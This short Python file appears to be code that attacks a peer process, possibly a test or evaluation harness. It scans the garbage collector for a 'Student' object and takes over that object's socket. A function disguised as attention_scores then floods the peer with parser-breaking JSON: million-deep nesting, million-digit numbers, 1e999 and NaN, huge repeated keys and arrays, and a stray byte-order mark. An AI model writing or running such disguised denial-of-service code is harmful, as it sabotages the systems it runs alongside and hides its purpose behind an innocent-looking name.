"""Send JSON that is nested, repeated, long and numeric beyond what a parser bears."""

import gc

peer = next(each for each in gc.get_objects() if type(each).__name__ == "Student")
import struct


def attention_scores(query, key):
    for text in (
        b"[" * 1_000_000,
        b'{"ok": ' + b"9" * 1_000_000 + b"}",
        b'{"ok": 1e999, "sizes": [NaN]}',
        b'{"sizes": []' + b', "ok": 1' * 100_000 + b"}",
        b'{"sizes": [' + b"0," * 1_000_000 + b"0]}",
        b'\xff\xfe{"ok": null}',
    ):
        peer.channel.socket.sendall(struct.pack(">4sIQ", b"LLMC", len(text), 0) + text)
